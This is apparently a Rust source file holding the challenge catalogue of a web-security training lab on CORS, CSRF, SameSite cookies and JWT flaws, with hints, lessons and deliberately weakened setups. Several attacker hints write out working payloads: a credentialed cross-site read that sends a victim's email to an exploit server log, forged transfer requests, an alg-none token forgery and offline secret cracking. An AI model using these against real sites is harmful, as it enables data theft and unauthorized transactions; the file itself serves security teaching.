//! The catalogue: each challenge's words (title, goal, hints, lesson) and the lab it starts
//! from. The page shows these words as they are, adding per engine only what `Engine` knows
//! (the preflight cache's cap, which cookies go).

use super::ChallengeId;
use crate::{
    cookie::{CookiePolicy, SameSite},
    cors::{AllowOrigin, CorsPolicy},
    wire::{Defenses, Vulnerable},
};

/// Whose side the person plays.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Role {
    /// Fix the lab so the playground works without opening it to others.
    Defender,
    /// Attack the lab from the other site (the exploit server).
    Attacker,
    /// Bend the lab's tokens.
    Tokens,
}

impl Role {
    pub fn label(self) -> &'static str {
        match self {
            Role::Defender => "Defender",
            Role::Attacker => "Attacker",
            Role::Tokens => "Tokens",
        }
    }
}

pub struct Challenge {
    pub id: ChallengeId,
    /// The id's wire name.
    pub key: &'static str,
    pub title: &'static str,
    pub role: Role,
    /// What to make happen, in the page's plain words.
    pub goal: &'static str,
    /// Shown one at a time, the first the gentlest.
    pub hints: &'static [&'static str],
    /// Shown once solved: why it worked, and what it means outside the lab.
    pub lesson: &'static str,
}

/// The words the crack-the-secret challenge picks its HMAC secret from; the token panel
/// offers them as the word list to try.
pub const SECRET_WORDS: [&str; 16] = [
    "secret", "password", "changeme", "letmein", "qwerty", "dragon", "monkey", "shadow", "sunshine", "princess", "football",
    "welcome", "admin", "mySecretKey", "jwtsecret", "supersecret",
];

pub const CATALOGUE: [Challenge; 14] = [
    Challenge {
        id: ChallengeId::CredentialsAndWildcard,
        key: "credentials_and_wildcard",
        title: "Credentials and the wildcard",
        role: Role::Defender,
        goal: "The policy answers Access-Control-Allow-Origin: * with credentials, and the profile read with the session cookie fails. \
               Fix the policy so that the playground reads its profile with the cookie, while no other origin is trusted (no *, no reflection, no null).",
        hints: &[
            "Log in with the session cookie, then send GET /api/profile with credentials: the browser refuses the answer. Read why in the result.",
            "With credentials, the browser accepts only an Access-Control-Allow-Origin that names the page's own origin, never *.",
            "In the policy, allow the list of origins with just the playground's origin, keep credentials on, apply, and read the profile again.",
        ],
        lesson: "A credentialed answer is readable only when Access-Control-Allow-Origin names the exact origin and Access-Control-Allow-Credentials is true: \
                 * is refused with credentials. The safe fix lists the origins you trust; reflecting whatever Origin came would also work, and trust every site on the web.",
    },
    Challenge {
        id: ChallengeId::BearerPreflight,
        key: "bearer_preflight",
        title: "The bearer's preflight",
        role: Role::Defender,
        goal: "The policy does not allow the Authorization header, so a request with a bearer token fails at its preflight. \
               Fix the policy so that the playground reads its profile with the token, after a preflight that allowed it.",
        hints: &[
            "Get a token (JWT login), then read the profile with it: the request is never sent. The server's view shows an OPTIONS.",
            "Authorization is not a CORS-safelisted header: the browser first asks, with Access-Control-Request-Headers: authorization.",
            "Add Authorization to the policy's allowed headers, apply, and send again.",
        ],
        lesson: "Any header that is not CORS-safelisted, Authorization included, makes the browser send a preflight first, and the request goes only if \
                 Access-Control-Allow-Headers names it. A bearer token needs no credentials mode: it goes because the page's code sets it, which is also why it is not sent by another site.",
    },
    Challenge {
        id: ChallengeId::OnePreflight,
        key: "one_preflight",
        title: "One preflight, not one per request",
        role: Role::Defender,
        goal: "Read the profile with the bearer token twice, more than 6 seconds apart and within a minute, with a single preflight in the log for both.",
        hints: &[
            "Send the bearer request, wait ten seconds, send it again: the server's view shows a preflight before each.",
            "Without Access-Control-Max-Age the browser keeps a preflight's answer about 5 seconds.",
            "Set the policy's max age to a minute or more, apply, then send twice ten seconds apart.",
        ],
        lesson: "Access-Control-Max-Age lets the browser reuse a preflight's answer, per origin, URL and credentials mode, but each engine caps it. \
                 A preflight costs a round trip before every non-simple request; caching it is the cheapest speed-up CORS has.",
    },
    Challenge {
        id: ChallengeId::ReadTheHeader,
        key: "read_the_header",
        title: "Read the header",
        role: Role::Defender,
        goal: "Every answer carries X-Instance, the instance that answered, but the page cannot read it. \
               Make an answer readable with X-Instance exposed to the playground.",
        hints: &[
            "Send any request: the browser's view lists the headers the page could read. X-Instance is not among them, though the server's view shows it was sent.",
            "A page reads only the CORS-safelisted response headers unless Access-Control-Expose-Headers names more.",
            "Add X-Instance to the policy's exposed headers, apply, and send again.",
        ],
        lesson: "Without Access-Control-Expose-Headers, a page reads only Cache-Control, Content-Language, Content-Length, Content-Type, Expires, Last-Modified and Pragma. \
                 * exposes every header, but not on a credentialed answer, where it means a header named *.",
    },
    Challenge {
        id: ChallengeId::ReflectedOrigin,
        key: "reflected_origin",
        title: "Reflected origin",
        role: Role::Attacker,
        goal: "The policy reflects any Origin, with credentials. Log in as the victim, then write a page on the exploit server that reads the victim's profile \
               and reports the email to the exploit server's log. Open it as the victim.",
        hints: &[
            "Log in with the session cookie in the playground: that is the victim. Then open the exploit server.",
            "Your page runs on the other site. fetch the lab's /api/profile with credentials: \"include\" and read the JSON.",
            "Report what you read to your own server: fetch(\"/log?email=\" + encodeURIComponent(profile.user.email)).",
        ],
        lesson: "Reflecting the Origin with credentials lets every web page read what the victim's cookie unlocks. \
                 A CORS policy is an allowlist: send back an origin only when it is in the list.",
    },
    Challenge {
        id: ChallengeId::TrustedNull,
        key: "trusted_null",
        title: "Trusted null",
        role: Role::Attacker,
        goal: "The policy trusts the origin null, with credentials. Read the victim's profile from a page whose origin is null, and report the email to the exploit server's log.",
        hints: &[
            "Which pages send Origin: null? Sandboxed frames, data: URLs, some redirects.",
            "In your exploit page, put the reading script in <iframe sandbox=\"allow-scripts\" srcdoc=\"…\">: its origin is opaque, and its requests say Origin: null.",
            "The frame cannot fetch /log on the exploit server by a relative URL: use the server's full address.",
        ],
        lesson: "null is not one origin: every sandboxed frame and data: document on the web sends it. Trusting null trusts them all. \
                 Never list null; a local file that needs the API should be served from a real origin.",
    },
    Challenge {
        id: ChallengeId::MoveTheMoney,
        key: "move_the_money",
        title: "Move the money",
        role: Role::Attacker,
        goal: "The session cookie is SameSite=None; Secure and the bank has no defense. Log in as the victim, then make a page on the other site move the victim's money.",
        hints: &[
            "A form or a fetch with a text/plain body is a simple request: no preflight, so CORS never gets to say no.",
            "fetch(\"http://localhost:3000/api/transfer\", {method: \"POST\", credentials: \"include\", body: JSON.stringify({to: \"bob@example.com\", amount: 100})})",
            "If your browser blocks third-party cookies, the cookie does not go from another site; try the exploit from the same site (localhost on the other port).",
        ],
        lesson: "CORS decides what a page may read, not what it may send: a simple request runs on the server whatever the answer's headers say. \
                 Cookies go with it unless SameSite or the browser's third-party cookie blocking keeps them back.",
    },
    Challenge {
        id: ChallengeId::SameSiteIsNotSameOrigin,
        key: "same_site_is_not_same_origin",
        title: "Same site is not same origin",
        role: Role::Attacker,
        goal: "The session cookie is SameSite=Lax. The attack from another site fails; move the victim's money from a page on the same site but another origin.",
        hints: &[
            "Open your exploit as the cross-site attacker (127.0.0.1): the transfer comes without the cookie.",
            "A site is the scheme and the registrable domain; the port and subdomains do not count. localhost:3001 is the same site as localhost:8080.",
            "Open the same exploit as the same-site attacker (localhost on the other port).",
        ],
        lesson: "SameSite protects against other sites, not other origins of your own site: any subdomain or port, any page on a shared host, is same-site. \
                 A CSRF defense that must hold against them checks Origin or Sec-Fetch-Site, or a token.",
    },
    Challenge {
        id: ChallengeId::DefendTheBank,
        key: "defend_the_bank",
        title: "Defend the bank",
        role: Role::Defender,
        goal: "Switch on defenses so that, under the settings in force, an attack from the same site and one from another site are both refused, \
               while the playground's own transfer still runs.",
        hints: &[
            "Attack first: the same-site attacker moves the money even with SameSite=Lax.",
            "The Origin check, Fetch Metadata and JSON only each stop the text/plain attack in a different way. Pick one, then run both attacks again.",
            "The settings count from their last change: after switching a defense, run both attacks and one transfer from the playground.",
        ],
        lesson: "A CSRF defense must stop same-site pages too, which SameSite does not. Checking Origin or Sec-Fetch-Site on every state change is cheap and does; \
                 JSON only works because a cross-origin JSON request needs a preflight that the policy can refuse.",
    },
    Challenge {
        id: ChallengeId::LaxIsNotEnough,
        key: "lax_is_not_enough",
        title: "Lax is not enough",
        role: Role::Attacker,
        goal: "The lab's deliberately vulnerable setting is on: the transfer also answers GET. With SameSite=Lax, move the victim's money from another site.",
        hints: &[
            "A fetch from another site gets no Lax cookie. Which requests from another site still carry one?",
            "SameSite=Lax sends the cookie on a top-level navigation with a safe method: a link, location = …, a GET form.",
            "From the cross-site exploit: location = \"http://localhost:3000/api/transfer?to=bob@example.com&amount=100\".",
        ],
        lesson: "Lax keeps cookies off cross-site subresources and POSTs, but sends them on a top-level GET navigation. A state change on GET undoes it: \
                 never change state on a safe method.",
    },
    Challenge {
        id: ChallengeId::TheTokenThatStopsIt,
        key: "the_token_that_stops_it",
        title: "The token that stops it",
        role: Role::Defender,
        goal: "The cookie is SameSite=None; Secure. Switch on the CSRF token defense, then show that both attackers fail while the playground's transfer runs.",
        hints: &[
            "The defense asks every transfer for X-CSRF-Token, the session's token, which the playground reads from GET /api/csrf-token.",
            "Another site cannot read that token: the policy does not let it read the answer.",
            "After switching it on: one transfer from the playground, one attack from the same site, one from another site.",
        ],
        lesson: "A synchronizer token is a secret the attacker's page cannot read, so it cannot send it. Here it is an HMAC of the session id under a server key: \
                 nothing to store, and a token from one session is worth nothing in another.",
    },
    Challenge {
        id: ChallengeId::LogoutThatDoesnt,
        key: "logout_that_doesnt",
        title: "Logout that doesn't",
        role: Role::Tokens,
        goal: "Log in both ways as the same user, log out, then show that the session is gone while the JWT issued before the logout still works.",
        hints: &[
            "Log in with the session cookie and get a token as the same user.",
            "Log out: the server deletes the session. Read the profile with the cookie, then with the token.",
        ],
        lesson: "A session lives on the server, so logging out ends it. A JWT is checked by its signature alone: it stays valid until it expires, unless the server keeps a deny list, \
                 which makes it a session again. Keep token lifetimes short.",
    },
    Challenge {
        id: ChallengeId::ForgeTheAdmin,
        key: "forge_the_admin",
        title: "Forge the admin",
        role: Role::Tokens,
        goal: "The lab's deliberately vulnerable setting is on: the server accepts tokens with alg none. Read the profile of a user you did not log in as, with a token you wrote.",
        hints: &[
            "Decode your own token: a header, the claims, a signature, each base64url.",
            "Write a header {\"alg\":\"none\",\"typ\":\"JWT\"} and claims with another user's sub, and leave the signature empty (the token ends with a dot).",
            "The other demo user is bob@example.com, sub 2.",
        ],
        lesson: "A token that names its own algorithm must not be trusted to choose it: the server decides the algorithm. alg none must always be refused, \
                 as this playground does unless the lab switches it on.",
    },
    Challenge {
        id: ChallengeId::CrackTheSecret,
        key: "crack_the_secret",
        title: "Crack the secret",
        role: Role::Tokens,
        goal: "The lab's HMAC secret is now a word from a short list. Find it from a token of yours, sign a token for a user you did not log in as, and read that user's profile.",
        hints: &[
            "Get a token with the JWT login: everything needed to test a guess is in it.",
            "The token panel tries each word of the list against your token's signature, offline.",
            "With the word found, sign claims with another user's sub (bob is 2) and read the profile with that token.",
        ],
        lesson: "An HS256 token lets anyone who holds one test guesses offline, as fast as HMAC runs. A secret must be 32 random bytes or more, \
                 never a word.",
    },
];

/// The lab a challenge starts from, applied after a reset.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Setup {
    pub policy: CorsPolicy,
    pub cookie: CookiePolicy,
    pub defenses: Defenses,
    pub vulnerable: Vulnerable,
    /// The JWT secret becomes a word of `SECRET_WORDS`, picked at random.
    pub secret_word: bool,
}

/// `frontend_origin`: the playground's origin, which the default policy allows.
pub fn setup(id: ChallengeId, frontend_origin: &str) -> Setup {
    let policy = CorsPolicy::secure_default(frontend_origin);
    let none_secure = CookiePolicy { same_site: SameSite::None, secure: true, http_only: true };
    let mut setup = Setup { policy, cookie: CookiePolicy::default(), defenses: Defenses::default(), vulnerable: Vulnerable::default(), secret_word: false };
    match id {
        ChallengeId::CredentialsAndWildcard => setup.policy.allow_origin = AllowOrigin::Any,
        ChallengeId::BearerPreflight => setup.policy.allow_headers = vec!["Content-Type".into()],
        ChallengeId::OnePreflight | ChallengeId::ReadTheHeader | ChallengeId::LogoutThatDoesnt => {}
        ChallengeId::ReflectedOrigin => setup.policy.allow_origin = AllowOrigin::Reflect,
        ChallengeId::TrustedNull => {
            setup.policy.allow_origin = AllowOrigin::List { origins: vec![frontend_origin.to_owned(), "null".into()] };
            // A sandboxed frame's requests are cross-site: only a SameSite=None cookie goes.
            setup.cookie = none_secure;
        }
        ChallengeId::MoveTheMoney => setup.cookie = none_secure,
        ChallengeId::SameSiteIsNotSameOrigin | ChallengeId::DefendTheBank => {}
        ChallengeId::LaxIsNotEnough => setup.vulnerable.transfer_via_get = true,
        ChallengeId::TheTokenThatStopsIt => {
            setup.cookie = none_secure;
            setup.policy.allow_headers.push("X-CSRF-Token".into());
        }
        ChallengeId::ForgeTheAdmin => setup.vulnerable.jwt_alg_none = true,
        ChallengeId::CrackTheSecret => setup.secret_word = true,
    }
    setup
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_id_has_one_entry_whose_key_is_its_wire_name() {
        for c in &CATALOGUE {
            let wire = serde_json::to_string(&c.id).unwrap();
            assert_eq!(wire, format!("\"{}\"", c.key));
            assert_eq!(CATALOGUE.iter().filter(|o| o.id == c.id).count(), 1);
            assert_eq!(ChallengeId::parse(c.key), Some(c.id));
            assert!(!c.hints.is_empty() && !c.goal.is_empty() && !c.lesson.is_empty(), "{}", c.key);
        }
    }

    #[test]
    fn every_setup_is_a_policy_the_server_accepts() {
        for c in &CATALOGUE {
            let s = setup(c.id, "http://localhost:8080");
            assert_eq!(s.policy.validate(), Ok(()), "{}", c.key);
        }
    }

    #[test]
    fn the_secret_words_are_weak_by_the_labs_own_measure() {
        assert!(SECRET_WORDS.iter().all(|w| crate::jwt::is_weak_secret(w.as_bytes())));
    }
}
